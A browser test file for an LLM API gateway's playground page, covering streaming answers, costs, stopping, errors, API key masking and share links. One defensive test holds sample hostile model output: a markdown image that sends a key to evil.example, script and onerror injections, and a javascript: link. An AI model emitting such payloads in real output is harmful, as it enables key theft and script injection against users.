import { encodeKey } from '../../src/domain/key.ts';
import { formatDollars } from '../../src/domain/money.ts';
import { decodeShare, encodeShare } from '../../src/domain/share-link.ts';
import { countTokens } from '../../src/domain/tokenizer.ts';
import { startServer } from '../server-under-test.ts';
import { expect, test } from './browser-test.ts';
import { PlaygroundPage } from './playground-page.ts';

const unknownKey = encodeKey(new Uint8Array(32).fill(9));

test('a first visitor presses Run, watches the answer stream, and sees what it cost', async ({
  page,
}) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.run.click();
  await expect(playground.stop).toBeVisible();
  await expect(playground.answer).not.toBeEmpty();
  const early = (await playground.answer.textContent()) ?? '';
  await playground.settled();
  const whole = (await playground.answer.textContent()) ?? '';
  expect(whole.length).toBeGreaterThan(early.length);

  const row = await playground.row();
  expect(row.outcome).toBe('completed');
  const dollars = `$${formatDollars(row.charge.nanodollars)}`;
  await expect(playground.cost.locator('[data-of=total]')).toHaveText(dollars);
  await expect(playground.cost.locator('[data-of=tokens]')).toHaveText([
    String(row.usage.input),
    String(row.usage.output),
  ]);
  await expect(playground.island.locator('.pg-figures')).toContainText(
    `${row.usage.input} in, ${row.usage.output} out`,
  );
  expect(playground.consoleErrors).toEqual([]);
});

test('in a browser that keeps nothing for sites, a request runs and the theme changes', async ({
  page,
}) => {
  // As Chrome does where all site data is blocked.
  await page.addInitScript(() => {
    for (const name of ['localStorage', 'sessionStorage'])
      Object.defineProperty(window, name, {
        configurable: true,
        get() {
          throw new DOMException('Access is denied for this document.', 'SecurityError');
        },
      });
  });
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.run.click();
  await playground.settled();
  expect((await playground.row()).outcome).toBe('completed');
  await page.getByRole('button', { name: 'Dark theme' }).click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  expect(playground.consoleErrors).toEqual([]);
});

test('Stop midway: the part is kept and labelled, the charge covers exactly the tokens shown (B2)', async ({
  page,
}) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Stop midway' }).click();
  await playground.run.click();
  await expect(playground.answer).toContainText(/\S+ \S+ \S+ \S+/);
  // Pressed as a word arrives: the next one is a quarter of a second away.
  await playground.answer.evaluate(
    (answer) =>
      new Promise<void>((resolve) => {
        new MutationObserver((_, observer) => {
          observer.disconnect();
          document.querySelector<HTMLElement>('.pg-run')?.click();
          resolve();
        }).observe(answer, { childList: true, characterData: true, subtree: true });
      }),
  );
  await expect(playground.island).toContainText('Stopped here by you');
  await playground.settled();
  const row = await playground.row();
  expect(row.outcome).toBe('client_disconnected');
  await playground.openTab('Raw events');
  const events = await playground.island.locator('.pg-event code').allTextContents();
  const text = events.map((event) => JSON.parse(event).choices[0]?.delta?.content ?? '').join('');
  expect(row.usage.output).toBe(countTokens(text));
  await expect(playground.cost).toContainText('client_disconnected');
  await expect(playground.cost.locator('[data-of=tokens]').last()).toHaveText(
    String(row.usage.output),
  );
});

test('an upstream that is overloaded: charged nothing, and the page says why (B1)', async ({
  page,
}) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Overload' }).click();
  await playground.run.click();
  await expect(playground.island.getByRole('alert')).toContainText('Status 529');
  await playground.settled();
  await expect(playground.cost).toContainText('Nothing was charged');
  await expect(playground.cost).toContainText('upstream_error');
  const row = await playground.row();
  expect(row).toMatchObject({ outcome: 'upstream_error', charge: { nanodollars: 0 } });
});

test('a stream that is cut: the part is kept, labelled and explained', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Cut off' }).click();
  await playground.run.click();
  await playground.settled();
  await expect(playground.answer).not.toBeEmpty();
  await expect(playground.island).toContainText('broke off');
  expect((await playground.row()).outcome).toBe('upstream_disconnected');
  await expect(playground.cost.locator('[data-of=total]')).toContainText('$0.0');
});

test('a wrong key: charged nothing, and the page says what to do', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Use my own key' }).click();
  await playground.island.getByLabel('Your API key').fill(unknownKey);
  await page.keyboard.press('Enter');
  await playground.run.click();
  const alert = playground.island.getByRole('alert').filter({ hasText: 'not accepted' });
  await expect(alert).toContainText('Status 401');
  await expect(alert).toContainText('Check it for typos');
  await expect(alert.getByRole('link')).toHaveAttribute('href', '/troubleshooting/#401');
  await expect(playground.cost).toContainText('nothing was charged');
  await expect(playground.cost).toContainText('rejected');
});

test('an own key: typos are found, it is masked, kept as chosen, and forgotten', async ({
  page,
  request,
}) => {
  const made = await request.post('/api/sandbox');
  const secret: string = (await made.json()).key.secret;
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Use my own key' }).click();
  const field = playground.island.getByLabel('Your API key');
  await expect(field).toBeFocused();
  await field.fill(`${secret.slice(0, -1)}!`);
  await page.keyboard.press('Enter');
  await expect(playground.island.getByRole('alert')).toContainText('only letters and digits');
  await field.fill(secret);
  await playground.island.getByLabel('This tab').check();
  await playground.island.getByRole('button', { name: 'Use this key' }).click();
  await expect(playground.island.locator('.key-secret')).toHaveText(`sk-…${secret.slice(-4)}`);

  await page.reload();
  await expect(playground.island.locator('.key-secret')).toHaveText(`sk-…${secret.slice(-4)}`);
  await playground.run.click();
  await playground.settled();
  expect([...playground.keys]).toEqual([secret]);
  expect(await page.content()).not.toContain(secret);
  expect(page.url()).not.toContain('sk-');
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('sk-');

  await playground.island.getByRole('button', { name: 'Forget' }).click();
  await expect(playground.island.locator('.key-secret')).toHaveCount(0);
  expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain('sk-');
});

test('a sandbox key is kept for the tab, a refused one is replaced, and each has its own label', async ({
  page,
}) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.run.click();
  await playground.settled();
  await expect(playground.island).toContainText('Kept until you close this tab');
  await page.goto('/guide/');
  await playground.open();
  await playground.run.click();
  await playground.settled();
  expect(playground.keys.size).toBe(1);

  const labels = async () => {
    const { data } = await (await page.request.get('/api/console/keys')).json();
    return data.map(({ label }: { label: string }) => label);
  };
  expect(await labels()).toEqual(['Sandbox']);
  const { data } = await (await page.request.get('/api/console/keys')).json();
  await page.request.post(`/api/console/keys/${data[0].id}/disable`);
  await playground.run.click();
  await expect.poll(() => playground.keys.size).toBe(2);
  await playground.settled();
  expect(await labels()).toEqual(['Sandbox', 'Sandbox 2']);

  await playground.island.getByRole('button', { name: 'Forget' }).click();
  await page.reload();
  await expect(playground.run).toBeEnabled();
  await expect(playground.island.locator('.key-secret')).toHaveCount(0);
});

test('a share link carries the request and never the key', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Get a sandbox key' }).click();
  await expect(playground.island.locator('.key-secret')).toBeVisible();
  const pasted = `Is ${unknownKey} a "good" key? ¿Sí?\nNew line`;
  await playground.message.fill(pasted);
  await playground.island.getByRole('button', { name: 'Share' }).click();
  await expect(playground.island).toContainText('the link leaves it out');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  expect(link).toBe(page.url());
  const shared = decodeShare(new URL(link).hash);
  expect(shared?.body).not.toMatch(/sk-[0-9A-Za-z]{20}/);

  const other = new PlaygroundPage(await context.newPage());
  await other.open(link);
  await expect(other.message).toHaveValue(pasted.replace(unknownKey, 'sk-removed'));
});

test('a damaged share link says so and leaves a request that works', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open('/playground/#r=damaged');
  await expect(playground.island).toContainText('The link is damaged');
  await expect(playground.run).toBeEnabled();
});

test('form, JSON body, snippets and what is sent are one request', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByLabel('System prompt').fill('Be "brief".');
  await playground.message.fill("It's $5\\n & more");
  await playground.island.getByLabel('Temperature').fill('0.5');
  await playground.island.getByLabel('Max tokens').fill('64');
  await playground.island.getByLabel('Model').selectOption('sandbox/echo');
  await playground.openTab('JSON');
  const editor = playground.json;
  await expect(editor).toContainText('"temperature": 0.5');
  await expect(editor).toContainText('"model": "sandbox/echo"');

  await editor.fill(
    JSON.stringify({
      model: 'sandbox/echo',
      max_tokens: 32,
      user: 'kept',
      messages: [{ role: 'user', content: 'typed as JSON' }],
    }),
  );
  await playground.openTab('Form');
  await expect(playground.message).toHaveValue('typed as JSON');
  await expect(playground.island.getByLabel('Max tokens')).toHaveValue('32');
  await expect(playground.island.getByLabel('Stream')).not.toBeChecked();
  await playground.message.fill('changed in the form');

  const sending = page.waitForRequest('**/v1/chat/completions');
  await playground.run.click();
  const body = (await sending).postDataJSON();
  expect(body).toEqual({
    model: 'sandbox/echo',
    max_tokens: 32,
    user: 'kept',
    messages: [{ role: 'user', content: 'changed in the form' }],
  });
  await expect(playground.answer).toContainText('changed in the form');
  await playground.openTab('Code');
  const code = await playground.island.locator('.code pre').last().textContent();
  expect(JSON.parse(/--data-raw '([\s\S]*)'$/.exec(code ?? '')?.[1] ?? '')).toEqual(body);
  expect(code).not.toContain('sk-');
});

test('every protocol answers, and a switch says what it leaves out', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open(
    `/playground/#${encodeShare({
      protocol: 'openai-chat',
      body: JSON.stringify({
        model: 'sandbox/echo',
        stream: true,
        logit_bias: {},
        messages: [{ role: 'user', content: 'over each protocol' }],
      }),
    })}`,
  );
  for (const label of ['Anthropic Messages', 'OpenAI Responses', 'OpenAI Chat Completions']) {
    await playground.island.getByLabel('Protocol').selectOption(label);
    if (label === 'Anthropic Messages')
      await expect(playground.island).toContainText('Left out, because Anthropic Messages');
    await playground.run.click();
    await playground.settled();
    await expect(playground.answer).toContainText('over each protocol');
    await expect(playground.run).toBeVisible();
  }
  await playground.openTab('History');
  await expect(playground.island.locator('.pg-history li')).toHaveCount(3);
});

test('a server that is away is explained in words that help', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByRole('button', { name: 'Get a sandbox key' }).click();
  await expect(playground.island.locator('.key-secret')).toBeVisible();
  await page.route('**/v1/chat/completions', (route) => route.abort('connectionrefused'));
  await playground.run.click();
  const alert = playground.island.getByRole('alert');
  await expect(alert).toContainText('server did not answer');
  await expect(alert).not.toContainText('Failed to fetch');
  await expect(playground.cost).toContainText('nothing was charged');
});

test('stopped before the answer begins, the log still has the request', async ({ page }) => {
  const playground = new PlaygroundPage(page);
  await playground.open(
    `/playground/#${encodeShare({
      protocol: 'anthropic-messages',
      body: '{"model":"sandbox/hang","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}',
    })}`,
  );
  const sent = page.waitForRequest('**/v1/messages');
  await playground.run.click();
  await sent;
  await expect
    .poll(async () => {
      const [key] = [...playground.keys];
      const log = await page.request.get('/v1/requests', { headers: { 'x-api-key': key ?? '' } });
      return (await log.json()).data.length;
    })
    .toBe(1);
  await playground.stop.click();
  await playground.settled();
  expect(await playground.row()).toMatchObject({
    outcome: 'client_disconnected',
    charge: { nanodollars: 0 },
  });
});

test('what a hostile model writes fetches nothing, runs nothing and links nowhere odd', async ({
  page,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).host));
  page.on('dialog', () => asked.push('a dialog'));
  const playground = new PlaygroundPage(page);
  await playground.open();
  await playground.island.getByLabel('Model').selectOption('sandbox/echo');
  await playground.message.fill(
    [
      '![x](https://evil.example/?q=KEY)',
      '<img src="https://evil.example/i" onerror="alert(1)"> <script>alert(1)</script>',
      '[click](javascript:alert(1)) [go](https://evil.example/) \u202eabc',
      'the end',
    ].join('\n\n'),
  );
  await playground.run.click();
  await playground.settled();
  await expect(playground.answer).toContainText('the end');
  await expect(playground.answer.locator('img, script, iframe, style')).toHaveCount(0);
  await expect(playground.answer.getByText('click')).toBeVisible();
  for (const href of await playground.answer
    .locator('a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href'))))
    expect(href).toMatch(/^https:\/\/evil\.example\//);
  expect(new Set(asked)).toEqual(new Set([new URL(page.url()).host]));
  expect(playground.consoleErrors).toEqual([]);
});

test('in front of another gateway the page asks for a key, then runs and tells the charge', async ({
  page,
  server,
  request,
}) => {
  const secret: string = (await (await request.post('/api/sandbox')).json()).key.secret;
  const front = await startServer({ env: { GATEWAY_URL: server.origin } });
  const playground = new PlaygroundPage(page);
  await playground.open(`${front.origin}/playground/`);
  await expect(playground.island).toContainText('Enter a key to run requests');
  await expect(playground.run).toBeDisabled();
  await playground.island.getByRole('button', { name: 'Use my own key' }).click();
  await playground.island.getByLabel('Your API key').fill(secret);
  await page.keyboard.press('Enter');
  await playground.run.click();
  await playground.settled();
  await expect(playground.cost.locator('[data-of=total]')).toContainText('$0.0');

  await page.goto(`${front.origin}/models/`);
  const list = page.getByRole('region', { name: 'Live models' });
  await expect(list).toContainText('lists its models only to a key');
  await expect(list.locator('tbody tr')).toHaveCount(0);
  await list.getByRole('button', { name: 'Use my own key' }).click();
  await list.getByLabel('Your API key').fill(secret);
  await page.keyboard.press('Enter');
  await expect(list.locator('tbody tr')).not.toHaveCount(0);
  await front.stop();
});
